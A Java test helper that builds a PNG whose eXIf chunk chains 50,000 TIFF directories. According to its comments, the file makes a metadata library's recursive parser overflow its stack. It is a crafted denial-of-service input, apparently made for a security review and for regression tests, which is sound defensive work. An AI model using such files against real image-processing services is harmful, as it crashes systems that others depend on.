package io.visionstreams.testing;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.zip.CRC32;
import javax.imageio.ImageIO;

/**
 * A valid PNG whose {@code eXIf} chunk chains {@code ifds} TIFF directories, each pointing at the
 * next: 50,000 of them (18 bytes each, about 900 KB) make metadata-extractor's recursive IFD walk
 * throw {@link StackOverflowError} (its open issue 559). The pixels are a plain 32x24 image, so
 * only the metadata is hostile. Built here rather than committed as a 900 KB binary.
 */
public final class DeepExifPng {

    /** The depth the hostile review used. */
    public static final int REVIEW_DEPTH = 50_000;

    private DeepExifPng() {}

    public static byte[] png(int ifds) {
        byte[] base = plainPng();
        byte[] exif = chainedIfds(ifds);
        int afterIhdr = 8 + 4 + 4 + 13 + 4; // signature, then IHDR: length, type, 13 data bytes, CRC
        ByteBuffer out = ByteBuffer.allocate(base.length + 12 + exif.length);
        out.put(base, 0, afterIhdr);
        out.putInt(exif.length);
        byte[] type = "eXIf".getBytes(StandardCharsets.US_ASCII);
        out.put(type).put(exif);
        CRC32 crc = new CRC32();
        crc.update(type);
        crc.update(exif);
        out.putInt((int) crc.getValue());
        out.put(base, afterIhdr, base.length - afterIhdr);
        return out.array();
    }

    /** Little-endian TIFF: IFD i holds one SHORT tag (orientation 1 in IFD0) and links to IFD i+1. */
    public static byte[] chainedIfds(int ifds) {
        int ifdSize = 2 + 12 + 4;
        ByteBuffer tiff = ByteBuffer.allocate(8 + ifds * ifdSize).order(ByteOrder.LITTLE_ENDIAN);
        tiff.put((byte) 'I').put((byte) 'I').putShort((short) 42).putInt(8);
        for (int i = 0; i < ifds; i++) {
            int offset = 8 + i * ifdSize;
            tiff.putShort((short) 1);
            tiff.putShort((short) (i == 0 ? 0x0112 : 0x0100)).putShort((short) 3).putInt(1).putInt(1);
            tiff.putInt(i + 1 < ifds ? offset + ifdSize : 0);
        }
        return tiff.array();
    }

    private static byte[] plainPng() {
        BufferedImage image = new BufferedImage(32, 24, BufferedImage.TYPE_3BYTE_BGR);
        Graphics2D g = image.createGraphics();
        g.setColor(Color.ORANGE);
        g.fillRect(0, 0, 16, 12);
        g.dispose();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            ImageIO.write(image, "png", out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
